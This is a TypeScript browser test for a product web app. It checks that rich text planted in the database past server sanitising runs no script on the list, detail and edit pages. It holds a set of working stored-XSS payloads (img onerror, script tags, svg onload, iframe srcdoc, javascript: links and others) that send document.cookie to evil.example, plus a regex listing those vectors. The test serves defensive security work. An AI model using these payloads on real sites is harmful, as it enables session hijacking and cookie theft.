import { afterAll, beforeAll, expect, it } from 'vitest'
import { sql } from '#packages/database/sql.ts'
import { sampleValue } from '#packages/testing/sample-rows.ts'
import { insertRow } from '#packages/server/rows.ts'
import { storageOf } from '#packages/server/registry.ts'
import { product } from '#areas/products/product/product.ts'
import { openWorld } from './product.ts'

// The server makes rich text harmless on the way in (tests/security/injection.test.ts). Here it lies in the database as
// an attacker wrote it, past the server: the page must not run it either, neither as rich text nor as a plain one.
let world: Awaited<ReturnType<typeof openWorld>>
beforeAll(async () => {
  world = await openWorld()
})
afterAll(() => world?.stop())

const RUN = "top.hit=(top.hit||0)+1;new Image().src='http://evil.example/'+document.cookie"
const hostile = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a id=go href="javascript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">y</a>`,
  `<details open ontoggle="${RUN}">x</details>`,
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  `<form action="http://evil.example/"><button autofocus onfocus="${RUN}">z</button></form>`,
  '</style><script>top.hit=1</script>',
].join('')

it('runs nothing that lies in a record, on its list, its page and its form, and asks no strange host', async () => {
  const { world: inner } = world
  const name = `<img src=x onerror="top.hit=1">产品`
  const id = await inner.inside(async tx => {
    const values = Object.fromEntries(
      storageOf(product as never)
        .columns.filter(one => one.spec.kind !== 'ref' && !one.spec.system && one.spec.required)
        .map(one => [
          one.field,
          sampleValue(one.spec, {
            userId: inner.people.get('陆珊')!.userId,
            deptId: inner.people.get('陆珊')!.deptId,
            cityCode: '440300',
            mark: '险',
          }),
        ]),
    )
    const row = (await insertRow(tx, inner.people.get('陆珊')!, product, {
      ...values,
      productName: name,
    } as never)) as { id: string }
    await tx.run(sql`update product set detail_html = ${`<p>说明在此</p>${hostile}`} where id = ${row.id}::bigint`)
    return row.id
  })
  const desk = await world.signIn('陆珊')
  const strange: string[] = []
  const dialogs: string[] = []
  desk.page.on('request', request => {
    if (!request.url().startsWith(world.address) && !/^(data|blob|about):/.test(request.url()))
      strange.push(request.url())
  })
  desk.page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const hits = () => desk.page.evaluate('window.hit')
  for (const place of ['index', `detail?id=${id}`, `edit?id=${id}`]) {
    await desk.page.goto(`${world.address}/product/${place}`)
    await desk.page.getByText('产品', { exact: false }).first().waitFor()
    if (place.startsWith('detail')) {
      const text = desk.page.locator('.kit-html').first()
      await text.getByText('说明在此').waitFor()
      expect(await text.innerHTML()).not.toMatch(
        /onerror|onload|ontoggle|<script|<svg|<iframe|<base|<meta|<link|<form|javascript:/i,
      )
      await desk.picture('stored-scripts')
    }
    if (place.startsWith('edit'))
      expect(await desk.page.getByRole('textbox', { name: /说明/ }).first().innerHTML()).not.toMatch(
        /onerror|onload|<script|<svg|<iframe|<base|javascript:/i,
      )
    expect([place, await hits(), dialogs, strange]).toEqual([place, undefined, [], []])
  }
  await desk.context.close()
})
